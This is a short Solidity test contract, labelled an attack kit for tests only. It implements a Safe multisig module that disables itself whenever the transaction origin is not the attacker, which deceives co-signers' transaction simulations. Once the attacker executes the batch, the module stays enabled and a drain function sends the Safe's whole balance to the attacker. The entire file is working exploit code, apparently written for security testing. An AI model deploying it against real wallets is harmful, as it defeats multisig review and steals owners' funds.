// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IModuleManager {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external
        returns (bool success);
}

/// @title Attack kit (tests only): a module that hides from simulations. A batch enables it and
/// calls `register()`; sent by anyone but `executor` (a co-signer's simulation, whatever its
/// sender, gas price or balance), it disables itself again, so the simulated Safe looks
/// unchanged. Executed by `executor` (the attacker, once the signatures are in) it stays, and
/// `drain` then takes the Safe's coins without any owner.
contract AttackSimulationEvader {
    address private constant SENTINEL = address(1);
    address public immutable executor;
    address public immutable attacker;

    constructor(address executor_, address attacker_) {
        executor = executor_;
        attacker = attacker_;
    }

    /// Called by the Safe right after it enabled this module, in the same batch.
    function register() external {
        if (tx.origin != executor) {
            IModuleManager(msg.sender).execTransactionFromModule(
                msg.sender, 0, abi.encodeWithSignature("disableModule(address,address)", SENTINEL, address(this)), 0
            );
        }
    }

    function drain(address safe) external {
        IModuleManager(safe).execTransactionFromModule(attacker, safe.balance, "", 0);
    }
}
